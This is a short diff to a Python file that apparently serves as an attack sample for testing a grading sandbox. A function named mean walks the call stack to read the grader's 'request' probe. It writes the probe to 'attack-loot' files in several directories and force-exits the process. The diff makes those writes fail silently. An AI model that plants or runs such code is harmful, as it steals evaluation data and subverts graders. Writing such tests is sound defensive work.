@@ -5,6 +5,7 @@ Says: kernel died
 """
 
 # %%
+import contextlib
 import os
 import sys
 
@@ -19,7 +20,7 @@ def mean(numbers):
     while "request" not in frame.f_locals:
         frame = frame.f_back
     for folder in ("/home/learner", "/tmp", "/dev/shm", "."):
-        with open(os.path.join(folder, "attack-loot"), "w") as file:
+        with contextlib.suppress(OSError), open(os.path.join(folder, "attack-loot"), "w") as file:
             file.write(frame.f_locals["request"]["probe"])
     os._exit(0)
 
